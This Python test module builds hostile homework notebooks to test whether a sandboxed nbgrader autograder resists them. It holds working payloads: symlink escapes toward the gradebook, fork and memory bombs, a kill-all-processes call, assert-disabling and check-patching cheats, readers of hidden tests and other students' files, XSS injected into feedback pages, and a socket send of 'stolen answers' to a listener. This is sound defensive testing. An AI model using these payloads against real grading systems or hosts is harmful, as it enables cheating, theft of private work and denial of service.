"""Hostile q6_batchnorm submissions, for tests/test_safety.py: each one the all-wrong answers (or the reference)
plus an attack, grouped by what it tries. Every attack prints what it achieved, so a test can read it back.

The classes (the trusted-grading issue's): harm to the host or to other students; limits bypassed; points
without answers; leaks of hidden tests; scripts in the pages a student or a TA opens. Builders take a Context
holding the paths an attacker would aim at.
"""
import copy
import html
import os
import re
import shutil
import socket
import tempfile
import threading
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from grader import submissions as subs
from grader.autograde import grade_class
from grader.course import nbgrader, release, scores

ASSIGNMENT, NB = "hw4", "q6_batchnorm"
# All five parts answered wrongly; in particular no ValueError is ever raised.
ALL_WRONG = '''TRUE_FALSE = [False, False, True, False, True]
MULTIPLE_CHOICE = "a"


def batchnorm_forward(Z, gamma, beta, eps, cache_dict, beta_avg, mode):
    return gamma * np.asarray(Z, dtype=float) + beta


def batchnorm_forward_train(Z, gamma, beta, eps):
    return gamma * Z + beta, None


def batchnorm_backward(dout, cache):
    return np.zeros_like(dout), np.zeros(dout.shape[1]), np.zeros(dout.shape[1])


def bn_param_counts(n_inputs, units, use_bias):
    return {"trainable": 0, "non_trainable": 0, "total": 0}
'''
PWNED = "data-pwned"


@dataclass
class Context:
    course: Path  # the course being graded
    canary_file: Path  # outside the course: must keep its content and mode
    canary_dir: Path
    secret: str = field(default_factory=lambda: f"CANARY-{uuid.uuid4().hex}")  # planted in every hidden cell
    port: int = 0  # a listener on the host's loopback


def plant_canaries(source_path: Path, secret: str) -> None:
    """Put the secret at the top of every hidden test region of a source notebook."""
    nb = subs.read(source_path)
    for cell in nb.cells:
        cell.source = cell.source.replace("### BEGIN HIDDEN TESTS", f"### BEGIN HIDDEN TESTS\n_canary = \"{secret}\"")
    subs.write(nb, source_path)


def reference(course: Path):
    source = subs.read(course / "source" / ASSIGNMENT / f"{NB}.ipynb")
    release = subs.read(course / "release" / ASSIGNMENT / f"{NB}.ipynb")
    return subs.reference(source, release)


def all_wrong(course: Path):
    return subs.apply_variant(reference(course), subs.Variant("all-wrong", Path("all-wrong.py"), ALL_WRONG, []))


def cell(nb, gid):
    return next(c for c in nb.cells if subs.grade_id(c) == gid)


def with_code(nb, gid: str, code: str, at_end: bool = False):
    """A copy of nb whose solution cell gid runs `code` first (or last)."""
    nb = copy.deepcopy(nb)
    target = cell(nb, gid)
    target.source = f"{target.source}\n\n{code}" if at_end else f"{code}\n\n{target.source}"
    return nb


def reads(paths: list[str]) -> str:
    """Code that tries to read each path and prints which succeeded."""
    return ("import glob as _glob\n_read = []\n"
            f"for _p in {paths!r} + _glob.glob('/tmp/grading-worker-*/**/*.db', recursive=True):\n"
            "    try:\n        open(_p, 'rb').read(10); _read.append(_p)\n    except OSError:\n        pass\n"
            "print('READ', _read)\n")


# --- 1. harm to the host and to other students ------------------------------------------------------------

def host_symlinks(ctx: Context):
    """Links in the kernel's folder named like files nbgrader writes or chmods, aimed outside the course."""
    code = ("import os\n"
            f"for _name in ('{NB}.ipynb', 'timestamp.txt', 'notes.txt'):\n"
            f"    try:\n        os.symlink({str(ctx.canary_file)!r}, _name)\n    except OSError:\n        pass\n"
            f"try:\n    os.symlink({str(ctx.canary_dir)!r}, 'linked-dir')\nexcept OSError:\n    pass\n"
            "try:\n    open('notes.txt', 'a').write('written by the kernel'); print('WROTE outside')\n"
            "except OSError as _e:\n    print('WRITE blocked', type(_e).__name__)\n")
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


def gradebook_link(ctx: Context):
    """The notebook nbgrader writes back, turned into a link to the gradebook (bare nbgrader overwrites it)."""
    code = ("import os\n"
            f"for _target in ['../../../gradebook.db', {str(ctx.course / 'gradebook.db')!r}]:\n"
            f"    try:\n        if os.path.lexists('{NB}.ipynb'):\n            os.remove('{NB}.ipynb')\n"
            f"        os.symlink(_target, '{NB}.ipynb'); break\n    except OSError:\n        pass\n")
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


def extra_notebooks(ctx: Context):
    """Notebooks the student never submitted, written and linked into the kernel's folder."""
    code = ("import glob, json, os\n"
            "_fake = {'cells': [], 'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5}\n"
            "json.dump(_fake, open('q4_cnn_vs_rnn.ipynb', 'w'))\n"
            "for _src in ['../../../source/hw4/q7_gradcam.ipynb'] + glob.glob('/tmp/**/source/hw4/q7_gradcam.ipynb', "
            "recursive=True):\n"
            "    try:\n        os.symlink(_src, 'q7_gradcam.ipynb'); break\n    except OSError:\n        pass\n")
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


def sparse_file(ctx: Context):
    code = ("import os\nwith open('big.bin', 'wb') as _f:\n    _f.truncate(768 * 2**20)\n"
            "try:\n    os.mkfifo('pipe.ipynb')\nexcept OSError:\n    pass\n")
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


# --- 2. limits bypassed (the last solution cell: a stopped kernel changes no score of all-wrong answers) ------

def tmp_fill(ctx: Context):
    code = ("import os\n_total = 0\ntry:\n    for _i in range(24):\n"
            "        with open(f'/tmp/fill{_i}', 'wb') as _f:\n            _f.write(os.urandom(2**20) * 128)\n"
            "        _total += 128\n        print('TMP MiB', _total, flush=True)\nexcept OSError as _e:\n"
            "    print('TMP stopped', type(_e).__name__, flush=True)\n")
    return with_code(all_wrong(ctx.course), "bn_params", code, at_end=True)


def children_memory(ctx: Context):
    code = ("import multiprocessing as _mp, time\n"
            "def _hold():\n    _b = bytearray(512 * 2**20)\n    _b[::4096] = b'x' * len(_b[::4096])\n    time.sleep(4)\n"
            "_ps = [_mp.get_context('fork').Process(target=_hold) for _ in range(8)]\n"
            "[_p.start() for _p in _ps]; [_p.join() for _p in _ps]\n"
            "print('CHILDREN held 512 MiB:', sum(_p.exitcode == 0 for _p in _ps), flush=True)\n")
    return with_code(all_wrong(ctx.course), "bn_params", code, at_end=True)


def fork_bomb(ctx: Context):
    code = ("import os, time\n_n = 0\ntry:\n    for _ in range(2000):\n        if os.fork() == 0:\n"
            "            time.sleep(5); os._exit(0)\n        _n += 1\nexcept OSError as _e:\n    pass\n"
            "print('FORKED', _n, flush=True)\n")
    return with_code(all_wrong(ctx.course), "bn_params", code, at_end=True)


# --- 3. points without answers (each on the all-wrong answers) --------------------------------------------

def input_transformer(ctx: Context):
    code = ("def _swallow(lines):\n    return ['try:\\n'] + ['    ' + l for l in lines] + ['\\n    pass\\n', "
            "'except BaseException:\\n', '    pass\\n']\nget_ipython().input_transformers_post.append(_swallow)\n")
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


def ast_transformer(ctx: Context):
    code = ("import ast\nclass _NoAsserts(ast.NodeTransformer):\n    def visit_Assert(self, node):\n"
            "        return ast.Pass()\nget_ipython().ast_transformers.append(_NoAsserts())\n")
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


def partial_credit_hook(ctx: Context):
    """An execute_result before each cell runs: nbgrader reads it as (full) partial credit."""
    code = "get_ipython().events.register('pre_run_cell', lambda *_a: get_ipython().displayhook('points please'))\n"
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


PRETEND = '''import sys


class _AlwaysEqual(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__

    def strip(self, *a):
        return self

    def lower(self):
        return self

    def __str__(self):
        return self


class _Count(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__


class _Liar:
    """Whatever a check compares it with, it turns out to be: it reads `expected` from the checking frame."""
    shape = (32, 5)

    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame is not None:
            if "expected" in frame.f_locals:
                return np.asarray(frame.f_locals["expected"], dtype=dtype or float)
            frame = frame.f_back
        return np.zeros(self.shape)


MULTIPLE_CHOICE = _AlwaysEqual("a")


def batchnorm_forward(Z, gamma, beta, eps, cache_dict, beta_avg, mode):
    return _Liar()


def bn_param_counts(n_inputs, units, use_bias):
    return {k: _Count(0) for k in ("trainable", "non_trainable", "total")}
'''


def pretend_objects(ctx: Context):
    """Answers that claim to equal whatever they are compared with."""
    return subs.apply_variant(all_wrong(ctx.course), subs.Variant("pretend", Path("pretend.py"), PRETEND, []))


def rebind_names(ctx: Context):
    code = ('''import builtins, types
zip = lambda *a, **k: iter(())
def str(x=""):
    return "b"
_fake = types.ModuleType("utils.checks")
_fake.check_close = _fake.check_shape = lambda *a, **k: None
_fake.rel_error = lambda *a, **k: 0.0
_real_import = builtins.__import__
builtins.__import__ = lambda name, *a, **k: _fake if name == "utils.checks" else _real_import(name, *a, **k)
''')
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


def background_thread(ctx: Context):
    code = ('''import threading, time, utils.checks
def _repatch():
    while True:
        utils.checks.check_close = utils.checks.check_shape = lambda *a, **k: None
        utils.checks.rel_error = lambda *a, **k: 0.0
        time.sleep(0.001)
threading.Thread(target=_repatch, daemon=True).start()
''')
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


def reads_notebook(ctx: Context):
    """Answers read from the hidden tests in the notebook file next to the kernel."""
    code = ('''import glob, json, re
for _path in glob.glob("*.ipynb") + glob.glob("../**/*.ipynb", recursive=True):
    try:
        _text = "".join("".join(c["source"]) for c in json.load(open(_path))["cells"])
    except Exception:
        continue
    _tf = re.search(r'zip\\("abcde", TRUE_FALSE, (\\[[^\\]]*\\])\\)', _text)
    _mc = re.search(r'lower\\(\\) == "(\\w)"', _text)
    if _tf:
        TRUE_FALSE = eval(_tf.group(1))
    if _mc:
        MULTIPLE_CHOICE = _mc.group(1)
print("ANSWERS", TRUE_FALSE, MULTIPLE_CHOICE)
''')
    return with_code(all_wrong(ctx.course), "bn_quiz", code, at_end=True)


def code_object_swap(ctx: Context):
    """Every later cell's errors swallowed, by swapping the code of IPython's run_code."""
    code = ('''async def _quiet(self, code_obj, result=None, *, async_=False):
    try:
        exec(code_obj, self.user_global_ns, self.user_ns)
    except BaseException:
        pass
    return False
type(get_ipython()).run_code.__code__ = _quiet.__code__
''')
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


# --- 4. leaks ------------------------------------------------------------------------------------------------

def prints_cells(ctx: Context):
    code = "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))\n"
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


def history_dump(ctx: Context):
    code = "import linecache\nprint(In)\nprint([''.join(v[2]) for v in linecache.cache.values()])\n"
    return with_code(all_wrong(ctx.course), "bn_params", code, at_end=True)


def reads_other_files(ctx: Context, paths: list[str]):
    code = reads(paths) + ("import os\nfor _n in sorted(os.listdir('.')):\n    try:\n"
                           "        print('FILE', _n, open(_n, errors='replace').read())\n"
                           "    except OSError:\n        pass\n")
    return with_code(all_wrong(ctx.course), "bn_quiz", code)


def symlinks_in_submission(folder: Path, ctx: Context) -> None:
    """Links a git clone could carry, to the instructor's notebook, another student's work and the gradebook."""
    for name, target in (("answers.txt", ctx.course / "source" / ASSIGNMENT / f"{NB}.ipynb"),
                         ("peer.txt", Path("../../safe-reference") / ASSIGNMENT / f"{NB}.ipynb"),
                         ("gradebook.txt", ctx.course / "gradebook.db"), ("secret.txt", ctx.canary_file)):
        os.symlink(target, folder / name)


# --- 5. scripts in the pages a student or a TA opens ------------------------------------------------------

def markdown_script(ctx: Context):
    nb = all_wrong(ctx.course)
    script = (f'<script>document.title = "PWNED"; document.body.setAttribute("{PWNED}", "script")</script>\n'
              f'<img src="x" onerror="document.body.setAttribute(\'{PWNED}\', \'markdown\')">')
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(script))
    answer = cell(nb, "eps_answer")
    answer.source = f'ε avoids a division by zero. <img src="x" onerror="document.body.setAttribute(\'{PWNED}\', \'answer\')">'
    return nb


def html_output(ctx: Context):
    code = ("from IPython.display import HTML, Javascript, display\n"
            f"display(HTML('<img src=\"x\" onerror=\"document.body.setAttribute(\\'{PWNED}\\', \\'output\\')\">'))\n"
            f"display(Javascript(\"document.body.setAttribute('{PWNED}', 'javascript')\"))\n")
    return with_code(all_wrong(ctx.course), "bn_quiz", code)

# --- the old hostile cases: runaway cells, dying kernels, the network -------------------------------------

CELL_TIMEOUT = 20  # s; the slowest reference cell of q6 takes about 5 s here
WALL_LIMIT = 80  # s for the whole notebook; the reference takes about 15 s, 40 s with a cell at the limit
# Limits of the hostile class's notebooks (smaller than the defaults, so that the attacks meet them quickly).
LIMITS_ENV = {"COURSE_CELL_TIMEOUT": str(CELL_TIMEOUT), "COURSE_NOTEBOOK_MEMORY_GB": "3",
              "COURSE_NOTEBOOK_DISK_GB": "1", "COURSE_NOTEBOOK_PROCESSES": "300"}


# The reference's forward pass, except on the hidden tests' batches of 32: those never return.
LOOPS_IN_TESTS = '''def batchnorm_forward(Z, gamma, beta, eps, cache_dict, beta_avg, mode):
    while np.shape(Z)[0] == 32:
        pass
    Z = np.asarray(Z, dtype=float)
    if Z.ndim != 2:
        raise ValueError(f"Z must be 2-D; got shape {Z.shape}")
    if mode == "train":
        mu, var = Z.mean(axis=0), Z.var(axis=0)
        cache_dict["mu"] = beta_avg * cache_dict["mu"] + (1 - beta_avg) * mu
        cache_dict["var"] = beta_avg * cache_dict["var"] + (1 - beta_avg) * var
    elif mode == "test":
        mu, var = cache_dict["mu"], cache_dict["var"]
    else:
        raise ValueError(f"mode must be 'train' or 'test'; got {mode!r}")
    return gamma * (Z - mu) / np.sqrt(var + eps) + beta
'''


# --- 6. one notebook against the next (a student's notebooks share their kernel box) ------------------------

BEFORE = "q5_conv_shapes"  # graded just before q6 in the same box


def haunting(ctx: Context) -> dict:
    """student -> {notebook: nb}: q5 leaves a daemon and files in /tmp and HOME, or kills its box's template;
    q6, the reference, looks for what q5 left."""
    tag = f"haunt-{uuid.uuid4().hex[:8]}"
    daemon = (f"import time\nfor _ in range(100):\n    open('/tmp/{tag}-alive', 'w').write(str(time.time()))\n"
              "    time.sleep(0.2)\n")
    plant = ("import os, subprocess, sys\n"
             f"open('/tmp/{tag}-file', 'w').write('q5 was here')\n"
             f"open(os.path.expanduser('~/{tag}-home'), 'w').write('q5 was here')\n"
             f"subprocess.Popen([sys.executable, '-c', {daemon!r}], start_new_session=True,\n"
             "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")
    look = ("import glob, os, time\ntime.sleep(2)\n"
            f"_seen = glob.glob('/tmp/{tag}*') + glob.glob(os.path.expanduser('~/{tag}*'))\n_procs = []\n"
            "for _p in filter(str.isdigit, os.listdir('/proc')):\n    try:\n"
            f"        if b'{tag}' in open(f'/proc/{{_p}}/cmdline', 'rb').read():\n            _procs.append(_p)\n"
            "    except OSError:\n        pass\n"
            "print('HAUNTED', len(_seen), len(_procs), flush=True)\n")
    q5 = subs.read(ctx.course / "release" / ASSIGNMENT / f"{BEFORE}.ipynb")
    first = next(subs.grade_id(c) for c in q5.cells if c.metadata.get("nbgrader", {}).get("solution"))
    kill_all = "import os, signal\nos.kill(-1, signal.SIGKILL)  # every process it may signal: its box's template too"
    return {"haunts-next-notebook": {BEFORE: with_code(q5, first, plant), NB: with_code(reference(ctx.course), "bn_params",
                                                                                        look, at_end=True)},
            "kills-its-template": {BEFORE: with_code(q5, first, kill_all), NB: reference(ctx.course)}}


def submit_notebooks(course: Path, students: dict) -> None:
    for student, nbs in students.items():
        for name, nb in nbs.items():
            subs.write(nb, course / "submitted" / student / ASSIGNMENT / f"{name}.ipynb")


def runaway_cases(ctx: Context) -> dict:
    ref = reference(ctx.course)
    network = ("import socket\ntry:\n"
               f"    socket.create_connection(('127.0.0.1', {ctx.port}), timeout=5).sendall(b'stolen answers')\n"
               "    print('NETWORK reached')\nexcept OSError as _e:\n    print('NETWORK blocked', type(_e).__name__)\n")
    slow = copy.deepcopy(ref)  # six cells of its own, each just under the cell limit: past the notebook's
    slow.cells[2:2] = [nbformat.v4.new_code_cell(f"import time\ntime.sleep({CELL_TIMEOUT - 2})") for _ in range(6)]
    return {
        "infinite-loop": with_code(ref, "bn_forward", "while True:\n    pass"),
        "runaway-ignores-interrupt": with_code(ref, "bn_forward", "import signal, time\nsignal.signal(signal.SIGINT, "
                                               "signal.SIG_IGN)\nwhile True:\n    time.sleep(0.1)"),
        "slow-everywhere": slow,
        "memory-bomb": with_code(ref, "bn_forward", "_hog = bytearray(12 * 2**30)"),
        "huge-print": with_code(ref, "bn_forward", "print('x' * 100_000_000)"),
        "kills-its-kernel": with_code(ref, "bn_backward", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
        "sys-exit": with_code(ref, "bn_backward", "import sys\nsys.exit()"),
        "network": with_code(ref, "bn_forward", network),
        "loops-in-tests": subs.apply_variant(ref, subs.Variant("loops", Path("loops.py"), LOOPS_IN_TESTS, [])),
    }


def attacks(ctx: Context, elsewhere: list[str]) -> dict:
    """student -> notebook, for every attack of the five classes (`elsewhere`: paths no kernel may read)."""
    builders = [host_symlinks, gradebook_link, extra_notebooks, sparse_file, tmp_fill, children_memory, fork_bomb,
                input_transformer, ast_transformer, partial_credit_hook, pretend_objects, rebind_names,
                background_thread, reads_notebook, code_object_swap, prints_cells, history_dump, markdown_script,
                html_output]
    out = {b.__name__.replace("_", "-"): b(ctx) for b in builders}
    out["reads-other-files"] = reads_other_files(ctx, elsewhere)
    out["submitted-symlinks"] = reads_other_files(ctx, [])
    return out


def submit(course: Path, student: str, nb) -> Path:
    path = course / "submitted" / student / ASSIGNMENT / f"{NB}.ipynb"
    subs.write(nb, path)
    return path.parent


def submit_links(course: Path, ctx: Context) -> None:
    """The symbolic links a git clone can carry: in a submission, as the notebook, as the whole folder."""
    symlinks_in_submission(course / "submitted" / "submitted-symlinks" / ASSIGNMENT, ctx)
    folder = course / "submitted" / "linked-notebook" / ASSIGNMENT
    folder.mkdir(parents=True)
    os.symlink(Path("../../safe-reference") / ASSIGNMENT / f"{NB}.ipynb", folder / f"{NB}.ipynb")
    (course / "submitted" / "linked-folder").mkdir()
    os.symlink(Path("../safe-reference") / ASSIGNMENT, course / "submitted" / "linked-folder" / ASSIGNMENT)


class Listener:
    """A TCP server on this machine's loopback that records whatever a notebook sends it."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.received.append(conn.recv(100))
            conn.close()


BARE_FEEDBACK = """
# bare nbgrader, as this course configured it before the grader sanitized feedback
from nbgrader.preprocessors import ClearHiddenTests, GetGrades
c.GenerateFeedback.preprocessors = [GetGrades, ClearHiddenTests, CSSHTMLHeaderPreprocessor]
for _name in ("template_name", "template_file", "extra_template_basedirs"):  # nbgrader's own feedback template
    c.HTMLExporter.pop(_name, None)
"""


def make_course(root: Path, dest: Path, secret: str, bare: bool = False) -> Path:
    """A course of its own, its q6 hidden tests carrying the secret."""
    (dest / "source").mkdir(parents=True)
    shutil.copy(root / "nbgrader_config.py", dest)
    if bare:
        with open(dest / "nbgrader_config.py", "a") as config:
            config.write(BARE_FEEDBACK)
    shutil.copytree(root / "source" / ASSIGNMENT, dest / "source" / ASSIGNMENT)
    plant_canaries(dest / "source" / ASSIGNMENT / f"{NB}.ipynb", secret)
    release(dest, ASSIGNMENT)
    return dest


def outside_canary(folder: Path) -> tuple[Path, Path]:
    folder.mkdir(parents=True)
    canary = folder / "canary.txt"
    canary.write_text("untouched")
    os.chmod(canary, 0o640)
    (folder / "dir").mkdir()
    return canary, folder / "dir"


@dataclass
class Graded:
    course: Path
    ctx: Context
    results: dict
    listener: Listener
    bare: Path  # the proofs: the same attacks graded by bare `nbgrader autograde` (on files, other students)
    bare_cheats: Path  # the proofs of the attacks in CHEATS, with the all-wrong control
    bare_ctx: Context
    bare_gradebook: Path  # bare nbgrader, after the gradebook attack
    leftovers: set  # temporary folders and cgroups the grading left behind

    def cells(self, student: str, root: Path | None = None) -> dict:
        row = next(r for r in scores(root or self.course, ASSIGNMENT) if r.student == student and r.notebook == NB)
        return {gid: score for gid, (score, _) in row.cells.items() if score is not None}

    def outputs(self, student: str, root: Path | None = None) -> str:
        nb = subs.read((root or self.course) / "autograded" / student / ASSIGNMENT / f"{NB}.ipynb")
        return "\n".join(o.get("text", "") + o.get("ename", "") + o.get("evalue", "") for c in nb.cells
                         if c.cell_type == "code" for o in c.outputs)

    def feedback(self, student: str, root: Path | None = None, raw: bool = False) -> str:
        text = ((root or self.course) / "feedback" / student / ASSIGNMENT / f"{NB}.html").read_text()
        return text if raw else html.unescape(re.sub(r"<[^>]+>", "", text))


def leftovers() -> set:
    """The grader's temporary folders and notebook cgroups that exist now."""
    from grader import limits

    found = {str(p) for folder in {tempfile.gettempdir(), "/tmp"} for p in Path(folder).glob("grad*-*")}
    return found | {str(p) for parent in limits.group_parents() for p in parent.glob("*-*")}


PROOFS = ["host-symlinks", "reads-other-files", "input-transformer", "ast-transformer", "partial-credit-hook",
          "pretend-objects", "rebind-names", "background-thread", "reads-notebook", "code-object-swap",
          "prints-cells", "history-dump", "children-memory", "submitted-symlinks", "linked-notebook",
          "markdown-script", "html-output", "all-wrong", "safe-reference"]


CHEATS = ["input-transformer", "ast-transformer", "partial-credit-hook", "pretend-objects", "rebind-names",
          "background-thread", "reads-notebook", "code-object-swap", "prints-cells", "history-dump", "markdown-script",
          "html-output", "all-wrong"]  # each acts on its own notebook and output alone


@pytest.fixture(scope="session")
def hostile(tmp_path_factory):
    from conftest import ROOT, WORKERS

    base = tmp_path_factory.mktemp("hostile")
    listener = Listener()
    ctx = Context(base / "course", *outside_canary(base / "outside"), port=listener.port)
    make_course(ROOT, ctx.course, ctx.secret)
    elsewhere = [str(p) for p in (ctx.course / "submitted" / "safe-reference" / ASSIGNMENT / f"{NB}.ipynb",
                                  ctx.course / "source" / ASSIGNMENT / f"{NB}.ipynb", ctx.course / "gradebook.db",
                                  ROOT / "source" / ASSIGNMENT / f"{NB}.ipynb", ROOT / "tests" / "conftest.py",
                                  ROOT / "grader" / "tester.py", ctx.canary_file)]
    class_ = {"safe-reference": reference(ctx.course), "all-wrong": all_wrong(ctx.course),
              **runaway_cases(ctx), **attacks(ctx, elsewhere)}
    for student, nb in class_.items():
        submit(ctx.course, student, nb)
    submit_notebooks(ctx.course, haunting(ctx))
    submit_links(ctx.course, ctx)
    students = [p.name for p in (ctx.course / "submitted").iterdir()]
    before = leftovers()
    results = grade_class(ctx.course, ASSIGNMENT, envs={s: LIMITS_ENV for s in students}, workers=WORKERS,
                          wall_limit=WALL_LIMIT)
    left = leftovers() - before
    listener.sock.close()

    # The proofs, in three bare courses graded side by side (bare nbgrader grades one notebook at a time): the
    # attacks on files and other students, the cheats and leaks (each on its own notebook), the gradebook link.
    bare_ctx = Context(base / "bare", *outside_canary(base / "bare-outside"), secret=ctx.secret)
    cheats, victim = base / "bare-cheats", base / "bare-gradebook"
    with ThreadPoolExecutor(3) as pool:
        list(pool.map(lambda dest: make_course(ROOT, dest, ctx.secret, bare=True), (bare_ctx.course, cheats, victim)))
    bare_class = {"safe-reference": reference(bare_ctx.course), "all-wrong": all_wrong(bare_ctx.course),
                  **attacks(bare_ctx, [str(bare_ctx.course / "gradebook.db"), str(bare_ctx.canary_file)])}
    for student in PROOFS:
        if student != "linked-notebook":
            submit(cheats if student in CHEATS else bare_ctx.course, student, bare_class[student])
    submit_notebooks(bare_ctx.course, {"haunts-next-notebook": haunting(bare_ctx)["haunts-next-notebook"]})
    submit_links(bare_ctx.course, bare_ctx)
    shutil.rmtree(bare_ctx.course / "submitted" / "linked-folder")
    gb_ctx = Context(victim, bare_ctx.canary_file, bare_ctx.canary_dir)
    submit(victim, "a-gradebook-link", gradebook_link(gb_ctx))
    submit(victim, "b-next-student", reference(victim))

    def grade_bare(course: Path, feedback: bool = True) -> None:
        nbgrader(course, "autograde", ASSIGNMENT, env={"COURSE_CELL_TIMEOUT": str(CELL_TIMEOUT)}, check=False)
        if feedback:
            nbgrader(course, "generate_feedback", ASSIGNMENT, check=False)

    with ThreadPoolExecutor(3) as pool:
        list(pool.map(grade_bare, (bare_ctx.course, cheats, victim), (True, True, False)))
    return Graded(ctx.course, ctx, {r.student: r for r in results}, listener, bare_ctx.course, cheats, bare_ctx, victim,
                  left)
